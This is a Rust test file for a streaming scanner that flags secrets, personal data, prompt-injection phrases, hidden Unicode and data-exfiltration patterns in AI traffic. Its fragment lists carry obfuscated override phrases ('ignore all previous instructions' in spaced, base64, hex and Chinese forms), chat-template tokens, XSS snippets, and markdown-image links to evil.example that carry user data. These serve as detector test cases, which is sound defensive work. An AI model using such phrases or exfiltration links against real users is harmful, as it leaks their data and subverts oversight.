use std::collections::BTreeSet;

use proptest::prelude::*;

use super::window::steps;
use super::*;
use crate::chunking::{self, Dice};
use crate::class::{Action, Class, Direction};

/// Text that no rule finds anything in.
const PROSE: &str = "The river rises in the hills, turns south, and reaches the sea after some forty miles. In 1842 \
    a bridge was built across it; the town on the far side has grown ever since, slowly at first. \
    Trains came in 1867 (the station still stands), and with them 3,200 people, two mills & a school. \
    \"Nobody,\" the mayor's notes say, \"expected it.\" Today it is quiet: one street, four shops, ";

fn catalogue() -> Catalogue {
    Catalogue::built_in().unwrap()
}

fn slice(text: &[u8], finding: &Finding) -> Vec<u8> {
    text[finding.start as usize..finding.end as usize].to_vec()
}

/// Feeds `chunks`, and checks after each that `settled` is monotone and that no finding came too late for it.
fn scan_chunks(catalogue: &Catalogue, chunks: &[&[u8]]) -> (Vec<Finding>, u64) {
    let rules = RuleSet::all(catalogue);
    let mut scanner = Scanner::new();
    let mut all = Vec::new();
    let mut settled = 0;
    let mut fed = 0;
    let mut check = |settled: &mut u64, now: u64, found: Vec<Finding>, fed: u64| {
        for finding in &found {
            assert!(finding.start >= *settled, "{finding:?} starts before {settled}");
            assert!(finding.start < finding.end && finding.end <= fed, "{finding:?} of {fed}");
        }
        assert!((*settled..=fed).contains(&now), "settled {settled}, then {now} of {fed}");
        *settled = now;
        all.extend(found);
    };
    for chunk in chunks {
        fed += chunk.len() as u64;
        let mut found = Vec::new();
        let now = scanner.feed(catalogue, &rules, chunk, &mut found);
        check(&mut settled, now, found, fed);
    }
    let mut found = Vec::new();
    let end = scanner.finish(catalogue, &rules, &mut found);
    check(&mut settled, end, found, fed);
    all.sort_unstable();
    (all, end)
}

pub(in crate::detect) fn assert_chunk_invariant(catalogue: &Catalogue, text: &[u8]) {
    let whole = scan_chunks(catalogue, &[text]);
    assert_eq!(whole.1, text.len() as u64);
    for chunks in chunking::every_way(text) {
        let lengths: Vec<usize> = chunks.iter().map(|chunk| chunk.len()).collect();
        let split = scan_chunks(catalogue, &chunks);
        let shown = String::from_utf8_lossy(text);
        assert!(split == whole, "{shown:?}, chunks {lengths:?}: {split:?}, unsplit: {whole:?}");
    }
}

#[test]
fn every_rule_finds_its_examples() {
    let catalogue = catalogue();
    let all = RuleSet::all(&catalogue);
    for (index, rule) in catalogue.rules() {
        let acted_on = |text: &str| {
            let findings = scan_all(&catalogue, &all, text.as_bytes());
            let own = findings.into_iter().filter(|found| found.rule == index);
            let own = own.filter(|found| found.confidence > Confidence::Low);
            own.map(|found| String::from_utf8(slice(text.as_bytes(), &found)).unwrap()).collect::<Vec<_>>()
        };
        assert!(!rule.true_examples.is_empty() && !rule.false_examples.is_empty(), "{}", rule.id);
        for example in rule.true_examples {
            assert_eq!(acted_on(example.text), [example.found], "{}: {}", rule.id, example.text);
        }
        for text in rule.false_examples {
            assert!(acted_on(text).is_empty(), "{}: {text}: {:?}", rule.id, acted_on(text));
        }
    }
}

#[test]
fn any_chunking_of_any_example_gives_the_same() {
    let catalogue = catalogue();
    for (_, rule) in catalogue.rules() {
        let truths = rule.true_examples.iter().map(|example| example.text);
        for (nth, text) in truths.chain(rule.false_examples.iter().copied()).enumerate() {
            assert_chunk_invariant(&catalogue, text.as_bytes());
            if nth == 0 {
                let (before, after) = PROSE.split_at(90);
                let embedded = format!("{} {text} {}", &before[..60], &after[..40]);
                assert_chunk_invariant(&catalogue, embedded.as_bytes());
            }
        }
    }
}

#[test]
fn a_number_that_has_ended_is_held_while_another_may_go_on() {
    let catalogue = catalogue();
    for name in ["passport e", "passport no k", "passport ab", "i g n o r e"] {
        assert_chunk_invariant(&catalogue, format!("{name} 1234567-").as_bytes());
    }
}

#[test]
fn any_chunking_of_all_examples_together_gives_the_same() {
    let catalogue = catalogue();
    let mut text = String::new();
    for (_, rule) in catalogue.rules() {
        for example in rule.true_examples {
            text = text + example.text + PROSE;
        }
    }
    let whole = scan_chunks(&catalogue, &[text.as_bytes()]);
    for chunks in chunking::random(text.as_bytes(), 9, 1, 8)
        .chain(chunking::random(text.as_bytes(), 6000, 2, 8))
        .chain([chunking::fixed(text.as_bytes(), 1)])
    {
        assert!(scan_chunks(&catalogue, &chunks) == whole);
    }
}

/// Pieces of which adversarial text is made: what rules begin with, end with, and stumble over.
const FRAGMENTS: &[&[u8]] = &[
    b"@",
    b".",
    b"a",
    b"foo@example.com",
    b".com",
    b"@x.",
    b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    b"-",
    b"--",
    b"4111",
    b" ",
    b"1111",
    b"4111111111111111",
    b"-1111",
    b"378282",
    b"1 ",
    b"0.",
    b"S",
    b"S1234567D",
    b"1234567",
    b"D",
    b"AKIA",
    b"Q3EGXKZ2LWHTN7PD",
    b"A3T",
    b"secret",
    b"_access_key",
    b"secret key",
    b" = ",
    b"\"",
    b"\\n",
    b"q7ZtR2mXv9LpK4sWn8Bd",
    b"/YcH3fJg+6TuEa1oViQ5",
    b"<|",
    b"im_start",
    b"|>",
    b"[INST]",
    b"<<SYS>>",
    b"[/",
    b"\xf3\xa0\x81\xa1",
    b"\xf3\xa0",
    b"\x80\x81",
    b"\xf0\x9f\x8f\xb4",
    b"\xed\xad\x80\xed\xb0\x81",
    b"\xed\xad",
    b"\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xa5\xf3\xa0\x81\xae\xf3\xa0\x81\xa7\xf3\xa0\x81\xbf",
    b"![",
    b"](",
    b"https://",
    b"e.example/",
    b"?q=",
    b"the+user+asked+about",
    b")",
    b"(",
    b"<",
    b">",
    b"\n",
    b"!",
    b"\xe9\x82\xae",
    b"\xff",
    b"\x00",
    b"eyJ",
    b"eyJhbGciOiJub25lIn0",
    b"eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0",
    b"eyJzdWIiOiJhIn0",
    b"-----BEGIN ",
    b"RSA ",
    b"PRIVATE KEY",
    b" BLOCK",
    b"-----",
    b"-----END ",
    b"\\r\\n",
    b"DEK-Info: AES-128-CBC,3F17F5316E2BAC89",
    b"q7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa1oViQ5",
    b"==",
    b"[r]: ",
    b"\n\n[",
    b"<img src=\"",
    b" href='",
    b"url(",
    b"javascript:",
    b"<script",
    b"onerror=",
    b"\x1b[",
    b"\xc2\x9b",
    b"\\033[",
    b"<https://",
    b"A123456",
    b"(3)",
    b"900101-1234568",
    b"11010519900101123",
    "身份证".as_bytes(),
    b"IBAN DE28 8451",
    b"2773 0028 4512 77",
    b"ATU",
    b"FR-",
    b"GB91EXMP",
    b"845127736",
    b"84-51-",
    b"BIC: EXMP",
    b"DEFF",
    b"swift ",
    b"84.512.773/0001-47",
    b"GOMA840612",
    b"heroku",
    b"_API_KEY",
    b"Token",
    b" := ",
    b"6675d3be-355c-5eba-bdda-6c8beec01904",
    b"password",
    b"passwd: ",
    b"is ",
    b"api_key='",
    b"r4inY!dAy9",
    b"glpat-",
    b"sk-ant-api03-",
    b"8Q~",
    b":AA",
    b"-us1",
    b".atlasv1.",
    b"Authorization: ",
    b"Bearer ",
    b"curl -u ",
    b"postgres://a:",
    b"\nkind: Secret\ndata:\n  a: cjRpblkhZEF5\n",
    b"\ndata:\n",
    b"machine a login b password ",
    b":5432:a:b:",
    b"$2y$10$",
    b"Private-Lines: 1\n",
    b"value=",
    b"::",
    b"2001:db8",
    b":",
    b"ffff",
    b"%eth0",
    b"192.0.2",
    b"1.",
    b"00:00:5e",
    b":53:af",
    b"-53-af",
    b"DOB ",
    b"12 May",
    b" 1990",
    b"1990",
    "年".as_bytes(),
    "5月12日".as_bytes(),
    "生".as_bytes(),
    b"0x",
    b"1Bf1fMdR3kiJf7WZw3zVyueT4ZnEQ4tAvm",
    b"passport ",
    b"ignore all ",
    b"1gn0r3",
    b"previous ",
    b"instructions",
    b"i g n o r e ",
    b" p r e v i o u s   p r o m p t",
    b"Rm9yZ2V0",
    b"IHlvdXIgcHJldmlvdXMgcHJvbXB0",
    b"466f7267",
    b"657420796f75722070726576696f75732070726f6d7074",
    b"\xe5\xbf\xbd\xe7\x95\xa5",
    b"\xe4\xb9\x8b\xe5\x89\x8d\xe6\x8c\x87\xe4\xbb\xa4",
    b"\xe2\x80\x8b",
    b"\xe2\x81\xa2\xe2\x81\xa4\xe2\x81\xa2\xe2\x81\xa4\xe2\x81\xa2\xe2\x81\xa4",
    b"\xef\xb8\x8f",
    b"\xf3\xa0\x84\x99\xf3\xa0\x84\x98",
    b"\xe2\x80\xae",
    b"\xe2\x81\xa6",
    b"\xe2\x81\xa9",
    b"\xe2\x80\x8c",
    b"} ",
    b"\xe1\xa0\x8b",
    b"\xcd\x8f",
    b"\n```html\n",
    b"```",
    b"`",
    b" = ",
    b"<script src='https://e.example/a.js'",
    b"onpageshow",
    b"formaction",
    b"data:image/svg+xml;base64,",
    b"PHN2ZyBvbmxvYWQ9YSgpPg",
    b"void(0)",
    b"[img]",
    b"\\includegraphics[",
    b"]{",
    b"\\e[38;5;8",
    b"m",
];

fn adversarial(picks: &[usize]) -> Vec<u8> {
    picks.iter().flat_map(|pick| FRAGMENTS[pick % FRAGMENTS.len()]).copied().collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_chunking_of_rule_fragments_gives_the_same(picks in prop::collection::vec(0..FRAGMENTS.len(), 0..14)) {
        thread_local! { static CATALOGUE: Catalogue = catalogue(); }
        CATALOGUE.with(|catalogue| assert_chunk_invariant(catalogue, &adversarial(&picks)));
    }

    #[test]
    fn any_chunking_of_any_bytes_gives_the_same(text in prop::collection::vec(any::<u8>(), 0..60)) {
        thread_local! { static CATALOGUE: Catalogue = catalogue(); }
        CATALOGUE.with(|catalogue| assert_chunk_invariant(catalogue, &text));
    }
}

#[test]
fn any_chunking_of_long_adversarial_text_gives_the_same() {
    let catalogue = catalogue();
    let mut dice = Dice::new(7);
    for seed in 0..20 {
        let picks: Vec<usize> = (0..700).map(|_| dice.below(FRAGMENTS.len())).collect();
        let text = adversarial(&picks);
        let whole = scan_chunks(&catalogue, &[&text]);
        for chunks in chunking::random(&text, 40, seed, 3).chain([chunking::fixed(&text, 1)]) {
            assert!(scan_chunks(&catalogue, &chunks) == whole, "seed {seed}");
        }
    }
}

#[test]
fn anchors_do_not_end_in_each_other() {
    for (_, rule) in catalogue().rules() {
        let anchors = rule.detector.anchors;
        for (nth, anchor) in anchors.iter().enumerate() {
            let others = anchors.iter().enumerate().filter(|(other, _)| *other != nth);
            for (_, other) in others {
                assert!(!anchor.ends_with(other), "{}: {anchor:?} ends with {other:?}", rule.id);
            }
        }
    }
}

#[test]
fn rules_are_named_once_and_by_class() {
    let catalogue = catalogue();
    let mut ids = BTreeSet::new();
    for (index, rule) in catalogue.rules() {
        assert!(ids.insert(&*rule.id), "{} twice", rule.id);
        assert!(rule.id.starts_with(&rule.class.to_string()), "{}", rule.id);
        assert_eq!(catalogue.index_of(&rule.id), Some(index));
        assert_eq!(catalogue.rule(index).unwrap().id, rule.id);
        assert_eq!(rule.level.is_some(), rule.class == Class::Injection, "{}", rule.id);
        let expected = match rule.class {
            Class::Injection | Class::HiddenText | Class::Exfiltration => Action::Flag,
            _ => Action::Redact,
        };
        assert_eq!(rule.default_action(Direction::Request), expected);
    }
    assert_eq!(catalogue.index_of("pii.nothing"), None);
}

#[test]
fn a_rule_that_is_off_finds_and_holds_nothing() {
    let catalogue = catalogue();
    let mail = catalogue.index_of("pii.contact.email").unwrap();
    let mut rules = RuleSet::all(&catalogue);
    assert!(rules.contains(mail));
    rules.remove(mail);
    assert!(!rules.contains(mail) && !rules.is_empty());
    let text = b"to foo@example.com and 4111111111111111 ";
    let found = scan_all(&catalogue, &rules, text);
    let found = found.into_iter().filter(|finding| finding.confidence > Confidence::Low);
    let found: Vec<&str> = found.map(|finding| catalogue.rule(finding.rule).unwrap().id.as_ref()).collect();
    assert_eq!(found, ["financial.card"]);
    let mut scanner = Scanner::new();
    assert_eq!(scanner.feed(&catalogue, &RuleSet::none(), b"foo@exam_", &mut Vec::new()), 9);
    rules.insert(mail);
    assert_eq!(rules, RuleSet::all(&catalogue));
}

#[test]
fn a_surrogate_pair_in_two_parts_is_a_hidden_character() {
    let catalogue = catalogue();
    type Case = (&'static str, &'static [u8], &'static [(u64, u64)]);
    let cases: [Case; 5] = [
        ("one", b"x\xed\xad\x80\xed\xb1\x81y", &[(1, 7)]),
        ("mixed run", b"\xf3\xa0\x81\x81\xed\xad\x80\xed\xb1\x82\xf3\xa0\x81\x83", &[(0, 14)]),
        ("high half alone", b"x\xed\xad\x80y", &[]),
        ("another low half", b"x\xed\xad\x80\xed\xb2\x81y", &[]),
        ("two runs", b"\xf3\xa0\x81\x81 \xf3\xa0\x81\x81", &[(0, 4), (5, 9)]),
    ];
    for (name, text, expected) in cases {
        let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text);
        let spans: Vec<_> = found.iter().map(|finding| (finding.start, finding.end)).collect();
        assert_eq!(spans, expected, "{name}");
        assert_chunk_invariant(&catalogue, text);
    }
}

#[test]
fn a_long_hidden_run_comes_in_pieces_without_gaps() {
    let catalogue = catalogue();
    let text = format!("ab {}\u{E0041} end", "\u{E0061}".repeat(2000));
    let (found, _) = scan_chunks(&catalogue, &[text.as_bytes()]);
    assert_eq!(found.first().unwrap().start, 3);
    assert_eq!(found.last().unwrap().end, 3 + 2001 * 4);
    assert!(found.windows(2).all(|pair| pair[0].end == pair[1].start) && found.len() == 8);
    for chunks in chunking::random(text.as_bytes(), 30, 3, 4).chain([chunking::fixed(text.as_bytes(), 1)]) {
        assert_eq!(scan_chunks(&catalogue, &chunks).0, found);
    }
}

#[test]
fn a_long_token_or_key_comes_in_pieces_without_gaps() {
    let catalogue = catalogue();
    let line = "q7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa1oViQ5\n";
    let headed = "-----BEGIN PRIVATE KEY-----\n".to_owned();
    let strings = r#""q7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa1oViQ5\n", "#;
    let cases = [
        ("a token", "eyJhbGciOiJub25lIn0.".to_owned() + &"a".repeat(9000) + "." + &"b".repeat(9000), 3),
        ("without its end", "eyJhbGciOiJub25lIn0.".to_owned() + &"a".repeat(18_000), 3),
        ("cut at its end", "eyJhbGciOiJub25lIn0.a.".to_owned() + &"a".repeat(2 * 8192 - 22), 2),
        ("a key", headed.clone() + &line.repeat(500) + "-----END PRIVATE KEY-----", 3),
        ("a key without its end", headed.clone() + line.repeat(500).trim_end(), 3),
        ("in strings", headed.clone() + &strings.repeat(400) + "-----END PRIVATE KEY-----", 3),
    ];
    for (name, secret, pieces) in cases {
        let text = format!("ab {secret}, end");
        let whole = scan_chunks(&catalogue, &[text.as_bytes()]);
        let found = &whole.0;
        assert_eq!(found.first().unwrap().start, 3, "{name}");
        assert_eq!(found.last().unwrap().end, 3 + secret.len() as u64, "{name}");
        assert!(found.windows(2).all(|pair| pair[0].end == pair[1].start), "{name}");
        assert_eq!(found.len(), pieces, "{name}");
        for chunks in chunking::random(text.as_bytes(), 40, 3, 4).chain([chunking::fixed(text.as_bytes(), 1)])
        {
            assert!(scan_chunks(&catalogue, &chunks) == whole, "{name}");
        }
    }
}

#[test]
fn flags_across_a_piece_border_stay_flags() {
    let catalogue = catalogue();
    let flag = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0077}\u{E006C}\u{E0073}\u{E007F}";
    let text = flag.repeat(200);
    for shift in 0..28 {
        let text = format!("{}{text}", "-".repeat(shift));
        assert_eq!(scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes()), []);
    }
}

#[test]
fn an_endless_address_is_data() {
    let catalogue = catalogue();
    let text = format!("![a](https://evil.example/{} end", "a/".repeat(4000));
    let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes());
    assert_eq!(found.iter().map(|finding| (finding.start, finding.end)).collect::<Vec<_>>(), [(5, 5 + 2048)]);
}

#[test]
fn a_long_address_behind_blanks_and_a_long_label_is_read_whole() {
    let catalogue = catalogue();
    for label in [0, 255, 300] {
        let label = "l".repeat(label);
        let text = format!("![{label}](    <https://evil.example/{}?to=bob@corp.example>)", "a".repeat(600));
        let whole = scan_chunks(&catalogue, &[text.as_bytes()]);
        let image = catalogue.index_of("exfiltration.markdown-image");
        assert!(whole.0.iter().any(|finding| Some(finding.rule) == image), "label of {}", label.len());
        assert!(scan_chunks(&catalogue, &chunking::fixed(text.as_bytes(), 1)) == whole);
    }
}

#[test]
fn confidence_follows_the_evidence() {
    let catalogue = catalogue();
    let cases = [
        ("4111111111111111", Confidence::High),
        ("8711111111111116", Confidence::Low),
        ("4222222222222", Confidence::Low),
        ("visa 4222222222222", Confidence::High),
        ("S1234567D", Confidence::High),
        ("s1234567d", Confidence::Medium),
        ("AKIAIOSFODNN7EXAMPLE", Confidence::Low),
        ("AKIAQ3EGXKZ2LWHTN7PD", Confidence::High),
        ("a@example.com", Confidence::High),
        ("a@example.internal", Confidence::Medium),
        ("<|im_start|>", Confidence::High),
        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.", Confidence::Medium),
        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.c2ln", Confidence::High),
    ];
    for (text, expected) in cases {
        let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes());
        // Another rule may see another number in it, less sure.
        assert_eq!(found.iter().map(|finding| finding.confidence).max(), Some(expected), "{text}");
    }
}

#[test]
fn little_is_held_back() {
    let catalogue = catalogue();
    let rules = RuleSet::all(&catalogue);
    let cases: [(&str, &str, u64); 22] = [
        ("prose behind a blank", "what the user wrote, ", 0),
        ("a word may be a local part", "the user", 4),
        ("a domain may grow", "to foo@example.com", 15),
        ("a word of 65 bytes is no local part, but the last may begin an anchor", &"_".repeat(65), 1),
        ("an anchor that begins, alone", "so <|im_st", 7),
        ("of a keyword no more than may begin a token", "the secret_access_key", 3),
        ("nor the gap behind it", "secret_access_key = ", 0),
        ("a value is", "secret_access_key = q7Zt", 4),
        ("an image is held from its address", "![alt](https://e", 9),
        ("a link, too", "[alt](https://example.com/", 20),
        ("digits of a card", "4111 11", 7),
        ("a year is no card", "in 2024, ", 0),
        ("the header of a token", "is eyJhbGciOi", 10),
        ("what is no header is not", "is eyJhIjoxfQ.eyJhIjoxfQ, ", 0),
        ("a key", "-----BEGIN PRIVATE KEY-----\nMC4C", 32),
        ("a certificate is not", "-----BEGIN CERTIFICATE-----\nMC4C ", 0),
        ("nor a key of which prose tells", "-----BEGIN PRIVATE KEY----- is its first line; ", 0),
        ("a rule of dashes is not", "-------- ", 0),
        ("a phrase that goes on", "so ignore all the ", 15),
        ("one that went another way", "so ignore the cat that sits on the mat over there, ", 0),
        ("letters apart", "so i g n o", 7),
        ("a word that a phrase begins with", "so ignoble ", 0),
    ];
    for (name, text, expected) in cases {
        let mut scanner = Scanner::new();
        let settled = scanner.feed(&catalogue, &rules, text.as_bytes(), &mut Vec::new());
        let mut mail_off = rules;
        mail_off.remove(catalogue.index_of("pii.contact.email").unwrap());
        let mut without = Scanner::new();
        let settled_without = without.feed(&catalogue, &mail_off, text.as_bytes(), &mut Vec::new());
        let held = |settled: u64| text.len() as u64 - settled;
        // What e-mail holds, the last word, hides what others hold.
        let own = if name.contains("local") || name.contains("domain") { settled } else { settled_without };
        assert_eq!(held(own), expected, "{name}");
    }
}

#[test]
fn the_median_hold_back_on_prose_is_small() {
    let catalogue = catalogue();
    let rules = RuleSet::all(&catalogue);
    let text = PROSE.repeat(4);
    let mut scanner = Scanner::new();
    let mut held = Vec::new();
    let mut out = Vec::new();
    let mut fed = 0;
    for delta in chunking::fixed(text.as_bytes(), 5) {
        fed += delta.len() as u64;
        held.push(fed - scanner.feed(&catalogue, &rules, delta, &mut out));
    }
    held.sort_unstable();
    assert!(out.is_empty());
    let (median, most) = (held[held.len() / 2], held[held.len() - 1]);
    println!("hold-back on prose, 5-byte deltas: median {median}, most {most} bytes");
    assert!(median <= 16 && most <= 64);
}

#[test]
fn time_is_linear_and_memory_bounded_for_any_text() {
    // What verifiers may read for each byte of text, and at the end of each feed (the word that may become the local
    // part of an address, or the head of a token), by the bounds of the rules.
    const MOST_STEPS: u64 = 120;
    const MOST_STEPS_A_FEED: u64 = 300;
    const LENGTH: usize = 60_000;
    let catalogue = catalogue();
    let jwt_header = ["eyJhbGciOi", &"A".repeat(9000)].concat().into_bytes();
    let token = ["eyJhbGciOiJub25lIn0.", &"a".repeat(LENGTH)].concat().into_bytes();
    let begin = "-----BEGIN PRIVATE KEY-----\n";
    let key = [begin, &"q7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa1oViQ5\n".repeat(1500)].concat().into_bytes();
    let strings = [begin, &"\"q7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa\"".repeat(1700)].concat().into_bytes();
    let spaced =
        [begin, &" ".repeat(1000), &"q7ZtR2mXv9".repeat(4), &" ".repeat(60_000)].concat().into_bytes();
    let units: &[&[u8]] = &[
        b"1",
        b"@",
        b"a@",
        b"a@a.",
        b"aaaaaaaaaa.",
        b"<|",
        b"1 ",
        b"1111 ",
        b"4111-",
        b"a",
        b"S1",
        b"AKIA",
        b"secretkey",
        b"secret key:",
        b"![",
        b"](",
        b"](//",
        b"![](http://",
        b"![](http://a?a=a@b ",
        b"![](http://()(",
        b"\xf3\xa0\x81\xa1",
        b"\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7",
        b"[",
        b"\\n",
        b"eyJ",
        b"\\neyJ",
        b"-----BEGIN ",
        b"-----BEGIN PRIVATE KEY-----",
        b"eyJhbGciOiJub25lIn0.",
        b"eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0.",
        b"-----BEGIN PRIVATE KEY-----\nq7ZtR2mXv9LpK4sWn8BdYcH3fJg6TuEa1oViQ5\n",
        b"-----BEGIN PRIVATE KEY-----\na: b\n",
        b"-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY",
        &jwt_header,
        &token,
        &key,
        &strings,
        &spaced,
        b"<a src=//src=//",
        b"url(//",
        b"\n\n[a]://",
        b"<http://",
        b"\x1b[;",
        "\u{ff14}".as_bytes(),
        "4\u{200b}".as_bytes(),
        "a\u{ff20}".as_bytes(),
        b"pw ",
        b"token - ",
        b"DB_TOKEN | ",
        b"key\" {",
        b"--token \\\n",
        b"Client(\"a",
        b"mysql -p",
        b"kind: Secret\nstringData:\n a: r4inY-dAy9\n",
        b"\"d\":\"q7Zt",
        b"://a:b@a.de",
        b"bearer ",
        b"herokuKey=",
        b"heroku_key = 6675d3be",
        b"heroku key ",
        b"password=\"",
        b"api_key: 'q7Zt",
        b"key key key ",
        b"glpat-",
        b"8Q~",
        b"5082716394:AA",
        b"5f8c0d3e-us",
        b"://a:b",
        b"curl -u a:",
        b"Authorization: Basic ",
        b"kind: Secret\n",
        b"\ndata:\n a: cjRpblkhZEF5",
        b"machine a login ",
        b":5432:a:b:",
        b"Private-Lines: 1\nq7Zt",
        b"a=b=c:d=\"e",
        b"1.",
        b"1:",
        b":1",
        b"::",
        b"aa-",
        b"aa.",
        b"1::1%a",
        b"dob 1",
        b"born 12 May ",
        "1990年1".as_bytes(),
        b"0x1",
        b"ignore ",
        b"ignore previous ",
        b"ignore all previous instructions ",
        b"ignore i ",
        b"i g n ",
        b"i g n o r e   ",
        b"SWdub3Jl",
        b"SWdub3JlIGlnbm9yZSBp",
        b"69676e6f7265",
        b"69676e6f726520616c6c20",
        "\u{5ffd}\u{7565}".as_bytes(),
        "\u{200b}".as_bytes(),
        "\u{200b}a".as_bytes(),
        "\u{fe0f}".as_bytes(),
        "\u{202e}".as_bytes(),
        "\u{2066}".as_bytes(),
        "a b\u{200b}".as_bytes(),
        "a\u{fe0f}".as_bytes(),
        "\u{180b}\u{34f}".as_bytes(),
        b"<script ",
        b"<script>`",
        b"onload=a ",
        b"<a onplay = a",
        b"onload ",
        b"javascript:a",
        b"\n```a\njavascript:a",
        b"data:image/svg+xml;base64,a",
        b"https://a?",
        b"https://a?b=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI ",
        b"[img]//",
        b"\\includegraphics[",
        b"\\e[1;",
    ];
    let mut dice = Dice::new(11);
    let picks: Vec<usize> = (0..LENGTH / 8).map(|_| dice.below(FRAGMENTS.len())).collect();
    let texts =
        units.iter().map(|unit| unit.repeat(LENGTH.div_ceil(unit.len()))).chain([adversarial(&picks)]);
    let mut worst = 0;
    let mut memory = 0;
    for text in texts {
        for size in [1, 5, LENGTH] {
            let mut scanner = Scanner::new();
            let mut out = Vec::new();
            let chunks = chunking::fixed(&text, size);
            let feeds = chunks.len() as u64;
            steps::take();
            for chunk in chunks {
                scanner.feed(&catalogue, &RuleSet::all(&catalogue), chunk, &mut out);
                memory = memory.max(scanner.memory());
            }
            scanner.finish(&catalogue, &RuleSet::all(&catalogue), &mut out);
            let read = steps::take();
            if size == LENGTH {
                worst = worst.max(read / text.len() as u64);
            }
            let unit = String::from_utf8_lossy(&text[..20]);
            let most = MOST_STEPS * text.len() as u64 + MOST_STEPS_A_FEED * feeds;
            assert!(read <= most, "{read} steps, not {most}, for {unit}… in chunks of {size}");
        }
    }
    println!("verifier steps on hostile text: at most {worst} a byte; a lane: at most {memory} bytes");
    assert!(memory < 48 * 1024);
}

#[test]
fn an_idle_lane_is_small() {
    let catalogue = catalogue();
    assert!(size_of::<Scanner>() < 256);
    let mut scanner = Scanner::new();
    assert_eq!(scanner.memory(), size_of::<Scanner>());
    scanner.feed(&catalogue, &RuleSet::all(&catalogue), PROSE.repeat(100).as_bytes(), &mut Vec::new());
    println!(
        "a lane: {} bytes, {} after a body; the automaton: {} bytes",
        size_of::<Scanner>(),
        scanner.memory(),
        catalogue.memory()
    );
    assert!(scanner.memory() < 4096);
}

#[test]
fn debug_shows_no_text() {
    let catalogue = catalogue();
    let mut scanner = Scanner::new();
    scanner.feed(&catalogue, &RuleSet::all(&catalogue), b"foo@example.com", &mut Vec::new());
    assert!(!format!("{scanner:?} {catalogue:?}").contains("foo"));
}
